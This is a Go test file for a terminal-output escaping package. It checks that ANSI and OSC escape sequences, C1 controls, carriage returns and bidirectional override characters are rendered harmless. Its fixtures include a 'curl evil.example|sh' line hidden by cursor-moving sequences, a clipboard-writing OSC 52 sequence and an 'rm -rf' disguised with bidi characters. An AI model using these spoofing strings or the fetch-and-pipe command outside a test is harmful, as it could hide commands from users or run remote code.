package termtext

import (
	"bytes"
	"errors"
	"log/slog"
	"strings"
	"testing"
)

func TestEscape(t *testing.T) {
	for _, c := range []struct{ in, want, line string }{
		{"plain text, ünïcødé, 日本語, emoji 👍🏽", "plain text, ünïcødé, 日本語, emoji 👍🏽", ""},
		{"two\nlines\tand a tab", "two\nlines\tand a tab", `two\nlines\tand a tab`},
		{"crlf\r\nline", "crlf\nline", `crlf\r\nline`},
		{"curl evil.example|sh\r\x1b[2K\x1b[1A  $ ls -la", `curl evil.example|sh\r\x1b[2K\x1b[1A  $ ls -la`, ""},
		{"osc 52: \x1b]52;c;aGk=\x07", `osc 52: \x1b]52;c;aGk=\x07`, ""},
		{"title: \x1b]0;pwned\x1b\\", `title: \x1b]0;pwned\x1b\`, ""},
		{"c1 csi: \u009b2J and nel \u0085", `c1 csi: \u009b2J and nel \u0085`, ""},
		{"raw 8-bit csi: \x9b2J", `raw 8-bit csi: \x9b2J`, ""},
		{"del \x7f bell \x07 nul \x00 bs \b", `del \x7f bell \x07 nul \x00 bs \x08`, ""},
		{"bidi: rm -rf \u202e/ fdp\u202c \u2066x\u2069 \u200f", `bidi: rm -rf \u202e/ fdp\u202c \u2066x\u2069 \u200f`, ""},
		{"lone \r at the end\r", `lone \r at the end\r`, ""},
	} {
		if got := Escape(c.in); got != c.want {
			t.Errorf("Escape(%q) = %q, want %q", c.in, got, c.want)
		}
		line := c.line
		if line == "" {
			line = c.want
		}
		if got := Line(c.in); got != line {
			t.Errorf("Line(%q) = %q, want %q", c.in, got, line)
		}
		for _, s := range []string{Escape(c.in), Line(c.in)} {
			if strings.ContainsAny(s, "\x1b\r\x07\x00\x7f\u009b\u202e") {
				t.Errorf("escaped %q still holds a control character: %q", c.in, s)
			}
		}
	}
}

type stringer struct{}

func (stringer) String() string { return "from a Stringer \x1b[2J" }

func TestWriterEscapesEverythingButItsOwnStyles(t *testing.T) {
	var b bytes.Buffer
	w := New(&b, true)
	w.Printf("%s %s %q %v %d %v %s\n", w.Paint("1;33", "approval needed:"), "cmd\x1b[1A", "q\x1b",
		errors.New("err\r"), 42, stringer{}, []string{"a\x1b"})
	w.Println("x\x1b]52;c;aGk=\x07", 3.5, true)
	w.Print("tail\u202e")
	got := b.String()
	want := "\x1b[1;33mapproval needed:\x1b[0m cmd\\x1b[1A \"q\\\\x1b\" err\\r 42 from a Stringer \\x1b[2J [a\\x1b]\n" +
		"x\\x1b]52;c;aGk=\\x07 3.5 true\n" + "tail\\u202e"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	b.Reset()
	New(&b, false).Printf("%s", New(&b, false).Paint("32", "+ok\x1b"))
	if b.String() != `+ok\x1b` {
		t.Errorf("without colour: %q", b.String())
	}
}

// A reply streamed in pieces: "\r\n" cut between two pieces is a line break, a lone '\r' is shown.
func TestStreamKeepsCRLFAcrossPieces(t *testing.T) {
	var b bytes.Buffer
	w := New(&b, false)
	for _, p := range []string{"one\r", "\ntwo\r", "three\r", "\r", "\n", "end\r"} {
		w.Stream(p)
	}
	w.Print(".")
	if want := `one` + "\n" + `two\rthree\r` + "\n" + `end\r.`; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

// The logs (stderr) quote values with control characters: log/slog's text handler escapes them,
// so they need no Writer.
func TestSlogTextHandlerEscapes(t *testing.T) {
	var b bytes.Buffer
	slog.New(slog.NewTextHandler(&b, nil)).Warn("msg \x1b[2J", "path", "a\x1b]52;c;aGk=\x07\u202e", "err", errors.New("e\r"))
	if strings.ContainsAny(b.String(), "\x1b\x07\r\u202e") {
		t.Errorf("slog wrote a control character raw: %q", b.String())
	}
}
